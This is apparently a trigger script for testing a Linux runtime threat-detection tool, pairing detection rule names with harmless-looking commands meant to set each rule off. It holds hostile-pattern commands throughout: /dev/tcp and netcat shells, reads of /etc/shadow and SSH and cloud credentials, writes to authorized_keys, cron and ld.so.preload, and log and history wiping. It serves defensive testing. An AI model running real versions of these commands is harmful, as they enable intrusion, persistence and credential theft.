# Read sensitive file untrusted
cat /etc/shadow
# Directory traversal monitored file read
head -c1 /usr/lib/../../etc/passwd
# Search Private Keys or Passwords
find "$tools" -name id_rsa
# Find AWS Credentials
find "$tools" -name .aws
# Cloud credential file read
cat /root/.aws/credentials
# Create Symlink Over Sensitive Files
ln -s /etc/shadow "$scratch/link"
# Create Hardlink Over Sensitive Files
ln /etc/shadow /etc/shadow-link
# Read ssh information
cat /root/.ssh/id_demo
# Memory of another process read through files
head -c0 "/proc/$$/mem"
# Netcat/Socat Remote Code Execution on Host
"$tools/nc" -e /bin/sh
# Run shell untrusted
shell redis-server && "$tools/redis-server" -c 'sh -c true; true'
# System user interactive
script -qc 'setpriv --reuid 33 id' /dev/null
# Execution from /dev/shm
cp /bin/true /dev/shm/act && /dev/shm/act
# Program started from a world-writable directory
cp /bin/true /var/tmp/act && /var/tmp/act
# Fileless execution via memfd_create
perl -e 'my $n = "x"; my $fd = syscall(319, $n, 0); open my $in, "<", "/bin/true"; binmode $in; local $/; my $p = <$in>; syscall(1, $fd, $p, length $p); exec "/proc/self/fd/$fd"'
# Program started through the dynamic loader
for loader in /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1; do test ! -e $loader || $loader /bin/true; done
# Code mapped from a world-writable directory
lib=$(ls /lib/*/libz.so.1 /usr/lib/*/libz.so.1 2>/dev/null | head -1) && cp "$lib" /var/tmp/act.so && LD_PRELOAD=/var/tmp/act.so /bin/true
# Library preloaded through the environment
LD_PRELOAD=/var/tmp/act.so /bin/true
# DB program spawned process
shell mysqld && "$tools/mysqld" -c 'id; true'
# Launch Suspicious Network Tool on Host
"$tools/nmap" 127.0.0.1
# Web Server Spawned Shell
"$tools/nginx" -c 'sh -c true; true'
# Web Server Spawned Suspicious Child Process
"$tools/nginx" -c 'id; true'
# Reverse Shell from Web Server
"$tools/nginx" -c 'sh -c "true /dev/tcp/127.0.0.1/1"; true'
# Standard streams sent to a network connection
bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$port"'; exec 0<&3' || true
# Shell connected to the network through its standard streams
bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$port"'; exec 0<&3 1>&3; exec sh -c true'
# Interactive shell fed through pipes by a network program
echo true | sh -i | cat
# Program run with disallowed http proxy env
HTTP_PROXY=http://127.0.0.1:1 "$tools/curl" x
# Remove Bulk Data from Disk
shred --version
# Write below binary dir
cp /bin/true /usr/sbin/act
# Write below monitored dir
cp /bin/true /usr/lib/act
# Write below etc
echo act >/etc/act.conf
# Write below root
echo act >/root/act
# Write below rpm database
echo act >/var/lib/dpkg/act
# Modify binary dirs
cp /bin/true /usr/sbin/act-too && rm /usr/sbin/act-too
# Mkdir binary dirs
mkdir /usr/bin/act
# Create files below dev
echo act >/dev/act-demo; rm -f /dev/act-demo
# Create Hidden Files or Directories
mkdir "$scratch/.act"
# Clear Log Activities
echo act >>/var/log/act; : >/var/log/act
# Delete or rename shell history
rm /root/.bash_history
# Modify Shell Configuration File
echo true >>/root/.bashrc
# Read Shell Configuration File
cat /root/.bashrc
# Set Setuid or Setgid bit
chmod u+s "$tools/nc"
# Update Package Repository
mkdir -p /etc/apt/sources.list.d && echo >/etc/apt/sources.list.d/act.list
# System procs network activity
bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$port"
# Interpreted procs inbound network activity
perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1") or die; if (!fork) { IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $s->sockport); exit } $s->accept; wait'
# Unexpected inbound connection source
unshare --net sh -c 'ip link set lo up; ip addr add 192.0.2.1/32 dev lo; exec perl -MIO::Socket::INET -e "my \$s = IO::Socket::INET->new(Listen => 1, LocalAddr => q(192.0.2.1)) or die; if (!fork) { IO::Socket::INET->new(PeerAddr => q(192.0.2.1), PeerPort => \$s->sockport); exit } \$s->accept; wait"'
# Disallowed SSH Connection Non Standard Port
shell ssh && unshare --net sh -c 'ip link set lo up; perl -MIO::Socket::INET -e "my \$s = IO::Socket::INET->new(Listen => 1, LocalAddr => q(127.0.0.1), LocalPort => 4444) or die; system @ARGV" "$0/ssh" -c "exec 3<>/dev/tcp/127.0.0.1/4444; true"' "$tools"
# Uncommon socket family used
call 41 40 1 0
# Container runtime socket opened
cp "$(command -v perl)" "$tools/curl" && "$tools/curl" -MIO::Socket::UNIX -e 'my $p = "$ARGV[0]/docker.sock"; my $s = IO::Socket::UNIX->new(Local => $p, Listen => 1) or die; IO::Socket::UNIX->new(Peer => $p) or die' "$scratch"; tool curl
# PTRACE attached to process
perl -e 'my $pid = fork; if (!$pid) { sleep 5; exit } syscall(101, 16, $pid + 0, 0, 0); waitpid $pid, 2; kill 9, $pid;'
# PTRACE anti-debug attempt
perl -e 'my $pid = fork; if (!$pid) { syscall(101, 0, 0, 0, 0); exit } waitpid $pid, 0;'
# Memory of another process written
perl -e 'my $x = "a" x 64; my $p = unpack("Q", pack("p", $x)); my $v = pack("QQ", $p, 4); syscall(311, $$ + 0, $v, 1, $v, 1, 0);'
# Memory of another process read
perl -e 'my $x = "a" x 64; my $p = unpack("Q", pack("p", $x)); my $v = pack("QQ", $p, 4); syscall(310, $$ + 0, $v, 1, $v, 1, 0);'
# Process memory opened for writing
perl -e 'open my $m, "+<", "/proc/self/mem" or die $!'
# Descriptor taken from another process
perl -e 'my $fd = syscall(434, $$ + 0, 0); syscall(438, $fd, 0, 0) >= 0 or die $!'
# Unprivileged Delegation of Page Faults Handling to a Userspace Process
setpriv --reuid 65534 perl -e 'syscall(323, 1)'
# Change thread namespace
nsenter --target $$ --uts true
# User mgmt binaries
tool useradd && "$tools/useradd" act
# Sudo Potential Privilege Escalation
tool sudoedit && chmod 755 "$scratch" && setpriv --reuid 65534 "$tools/sudoedit" -s 'act\'
# Potential Local Privilege Escalation via Environment Variables Misuse
setpriv --reuid 65534 env GLIBC_TUNABLES=glibc.act=1 true
# Schedule Cron Jobs
mkdir -p /etc/cron.d && echo >/etc/cron.d/act
# Adding ssh keys to authorized_keys
echo key >>/root/.ssh/authorized_keys
# Service unit written
mkdir -p /etc/systemd/system && echo >/etc/systemd/system/act.service
# Library list of the loader changed
: >>/etc/ld.so.preload
# Login or privilege configuration written
: >>/etc/passwd
# BPF Program Not Profiled
call 321 5 0 0
# Kernel helper program changed
perl -e 'open my $f, ">>", "/proc/sys/kernel/core_pattern"'
# Kernel settings weakened
perl -e 'open my $f, ">>", "/proc/sys/kernel/randomize_va_space"'
# io_uring set up by an uncommon program
perl -e 'my $p = "\0" x 120; syscall(425, 1, $p) >= 0 or die $!'
# Protection of the machine switched off
tool pkill && "$tools/pkill" -0 windhover-act
# Known Cryptominer Process Executed
tool xmrig && "$tools/xmrig"
# Detect crypto miners using the Stratum protocol
"$tools/nmap" stratum+tcp://127.0.0.1:1
# Network Tool Executed During NPM Package Install
during_install "$tools/curl x"
# Package installation reads secrets
ln -f /root/.ssh/id_demo /root/.ssh/id_rsa; during_install 'cat /root/.ssh/id_rsa'
# File reached under another name
ln -sf /etc/shadow "$scratch/innocent" && cat "$scratch/innocent"
# Program without a file started
perl -e 'open my $in, "<", "/bin/true"; binmode $in; local $/; my $p = <$in>; my $f = "$ARGV[0]/gone"; open my $o, ">", $f; print $o $p; close $o; chmod 0755, $f; open my $x, "<", $f; require Fcntl; fcntl($x, 2, 0); unlink $f; my $n = fileno $x; exec "/proc/self/fd/$n"' "$scratch"
# Read sensitive file trusted after startup
shell nginx && cp "$tools/nginx" /usr/sbin/nginx && /usr/sbin/nginx -c 'sleep 5.2; read -r line </etc/shadow'
# Arguments too long to be kept
sh -c ": $(head -c 20000 /dev/zero | tr '\0' a)"
# Backdoored library loaded into SSHD (CVE-2024-3094)
cp "$(command -v cat)" /usr/sbin/sshd && : >/usr/lib/liblzma.so.5.6.1 && /usr/sbin/sshd /usr/lib/liblzma.so.5.6.1
# Cloud metadata fetched by a tool
alone 169.254.169.254 'perl -MIO::Socket::INET -e "IO::Socket::INET->new(Proto => q(udp), PeerAddr => q(169.254.169.254), PeerPort => 80)"'
# Connection to a port of miner pools
alone 203.0.113.9 'listening 203.0.113.9 3333; cp "$(command -v bash)" /var/tmp/act-shell; /var/tmp/act-shell -c "exec 3<>/dev/tcp/203.0.113.9/3333"'
# Detect outbound connections to common miner pool ports
alone 203.0.113.9 'listening 127.0.0.1 3333; bash -c "exec 3<>/dev/tcp/127.0.0.1/3333"'
# Interpreted procs outbound network activity
alone 203.0.113.9 'listening 203.0.113.9 80; perl -MIO::Socket::INET -e "IO::Socket::INET->new(q(203.0.113.9:80)) or die"'
# Java Process Class File Download
cp "$(command -v cat)" "$tools/java" && alone 203.0.113.9 'listening 127.0.0.1 8080 "\xca\xfe\xba\xbe"; bash -c "exec \"$tools/java\" 0<>/dev/tcp/127.0.0.1/8080"'
# Name of a file not in memory
name=/etc/security/opasswd; printf "$name\\0" >$name && perl -e 'open my $f, "+<", $ARGV[0] or die; my $at = syscall(9, 0, 4096, 1, 1, fileno $f, 0); syscall(257, -100, $at, 2 | 512) >= 0 or die $!' $name
# Non sudo setuid
echo 1000 >/proc/self/loginuid && call 105 0
# Outbound connection to C2 servers
alone 203.0.113.66 'listening 203.0.113.66 443; bash -c "exec 3<>/dev/tcp/203.0.113.66/443"'
# Package installation opens a shell connection
alone 203.0.113.9 'listening 203.0.113.9 4444; cd "$scratch"; echo "bash -c \"exec 3<>/dev/tcp/203.0.113.9/4444\"; true" >install; "$tools/npm" install'
# Package script changes start-up or login files
shell dpkg && cp "$tools/dpkg" /usr/bin/dpkg && /usr/bin/dpkg -c 'echo true >>/root/.profile'
# Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)
cp /bin/true /usr/bin/pkexec && setpriv --reuid 65534 /usr/bin/pkexec
# Registers of the processor opened for writing
unshare --mount sh -c 'mount -t tmpfs none /dev && mkdir -p /dev/cpu/0 && : >>/dev/cpu/0/msr'
# Sensitive call through io_uring
perl "$acts/io-uring.pl" /etc/shadow
# Sensitive file mounted under another name
touch "$scratch/mounted" && mount --bind /etc/shadow "$scratch/mounted"
# System call of 32 bits
perl "$acts/elf32.pl" "$tools/act32" && "$tools/act32"
# Unexpected UDP Traffic
alone 203.0.113.9 'perl -MIO::Socket::INET -e "IO::Socket::INET->new(Proto => q(udp), PeerAddr => q(203.0.113.9), PeerPort => 9999)"'
# Library loaded from memory
lib=$(ls /lib/*/libz.so.1 /usr/lib/*/libz.so.1 2>/dev/null | head -1) && perl -e 'my $n = "x"; my $fd = syscall(319, $n, 0); open my $in, "<", $ARGV[0] or die; binmode $in; local $/; my $l = <$in>; syscall(1, $fd, $l, length $l); $ENV{LD_PRELOAD} = "/proc/self/fd/$fd"; exec "/bin/true"' "$lib"
# Shell tied to the network through pipes
mkfifo "$scratch/loop"; sh <"$scratch/loop" 2>&1 | perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:$ARGV[0]") or die; select undef, undef, undef, 0.3' "$port" >"$scratch/loop"
